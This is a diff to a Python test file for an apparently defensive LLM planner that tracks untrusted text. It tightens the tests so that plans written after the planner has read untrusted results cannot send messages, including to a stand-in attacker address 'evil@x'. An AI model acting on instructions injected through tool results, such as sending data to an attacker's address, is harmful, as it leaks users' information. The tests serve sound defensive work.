@@ -304,7 +304,8 @@ def test_a_repair_shows_no_results(sees: ReplannerSees) -> None:
             assert word not in message.text
 
 
-def test_all_that_a_planner_writes_after_it_saw_text_is_not_trusted_but_what_the_user_said() -> None:
+def test_all_that_a_planner_writes_after_it_saw_text_is_not_trusted() -> None:
+    """Not even the words of the question: results have said which of them to take."""
     plan = 's = send("bob@home", "x")\nb = "ann@home"\nt = send("ann@home", "x")\n'
     plan += 'u = send(b, "y")\nv = send(c, "x")\njoin(s, t, u, v)'
     result, _ = asked(
@@ -316,8 +317,8 @@ def test_all_that_a_planner_writes_after_it_saw_text_is_not_trusted_but_what_the
         replan="any",
         replanner_sees="text",
     )
-    assert sent(result) == ["ann@home", "ann@home"]
-    assert {id for id in "stuv" if isinstance(result.outcomes[id], Failure)} == {"s", "v"}
+    assert sent(result) == []
+    assert {id for id in "stuv" if isinstance(result.outcomes[id], Failure)} == set("stuv")
 
 
 # ------------------------------------------------------------------------------------------------------ what was said
@@ -328,7 +329,7 @@ def test_an_answer_from_what_is_not_trusted_is_data_for_the_next_question() -> N
     assert [message.untrusted for message in first.messages] == [False, True]
     assert not first.label.trusted
     second, model = asked(
-        's = send("evil@x", "x")\nt = send("ann@home", "x")\njoin(s, t)',
+        's = send("evil@x", "x")\nt = send("ann@home", "x")\nb = "ann@home"\nu = send(b, "y")\njoin(s, t, u)',
         "Done.",
         history=first.messages,
         question="Tell ann@home.",
@@ -340,7 +341,7 @@ def test_an_answer_from_what_is_not_trusted_is_data_for_the_next_question() -> N
     )
     assert told.count("</said>") == 1
     assert rounds(second) == [True]
-    assert sent(second) == ["ann@home"]
+    assert sent(second) == ["ann@home", "ann@home"]
     joined = model.requests[1].messages
     assert all("evil@x" not in message.text for message in joined[:-1])
     assert joined[-1].role == "user"
